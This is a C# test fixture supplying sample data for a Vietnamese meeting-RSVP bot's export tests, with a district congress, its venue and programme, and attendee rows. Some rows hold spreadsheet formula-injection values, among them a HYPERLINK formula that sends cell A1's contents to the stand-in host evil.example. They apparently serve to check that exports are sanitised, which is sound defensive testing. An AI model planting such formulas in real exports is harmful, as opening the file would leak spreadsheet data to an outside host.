using Domain.Events;

namespace Bot.Tests.Files;

/// <summary>A meeting and answers like the real ones, with the awkward values the exports must survive.</summary>
internal static class Samples
{
    public const string HoaName = "Nguyễn Thị Hoa";
    public const string FormulaText = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")";
    public const string TrickyReason = "Bận họp, \"khẩn\" ở phường\r\ndòng hai, cuối";

    public static readonly TimeZoneInfo Saigon = TimeZoneInfo.FindSystemTimeZoneById("Asia/Ho_Chi_Minh");

    public static readonly DateTimeOffset MadeAt = new(2023, 4, 20, 3, 15, 0, TimeSpan.Zero);

    public static Meeting Meeting { get; } = new()
    {
        Id = "dai-hoi-2023",
        Title = "Đại hội đại biểu Mặt trận Tổ quốc Việt Nam Quận 5 lần thứ XII",
        StartsAt = new DateTimeOffset(2023, 4, 27, 8, 0, 0, TimeSpan.FromHours(7)),
        Venue = new Venue("Hội trường Quận ủy Quận 5", "203 An Dương Vương, Phường 8, Quận 5", 10.7599, 106.6679),
        RsvpDeadline = new DateTimeOffset(2023, 4, 25, 17, 0, 0, TimeSpan.FromHours(7)),
        Programme = ["07g30: Đón tiếp đại biểu", "08g00: Chào cờ, tuyên bố lý do", "09g00: Báo cáo chính trị"],
    };

    public static IReadOnlyList<AttendeeRow> Rows { get; } =
    [
        new("Ban Thường trực", HoaName, "Chủ tịch", "Tham dự", null, null, null, null, "+84901234567",
            new DateTimeOffset(2023, 4, 20, 1, 30, 0, TimeSpan.Zero)),
        new("Ban Thường trực", "Trần Văn Bình", "-1", "Vắng", TrickyReason, null, null, null, "0909 123 456",
            new DateTimeOffset(2023, 4, 21, 2, 5, 0, TimeSpan.Zero)),
        new("Phường 1", "Lê Thị Cúc", "=1+1", "Cử người dự thay", FormulaText, "@SUM(A1)", "Phó Chủ tịch", "+84 912 345 678", "\t0911",
            null),
        new("Phường 1", "Phạm Minh Đức", "Ủy viên", "Tham dự", null, null, null, null, "+SUM(1)", null),
    ];
}
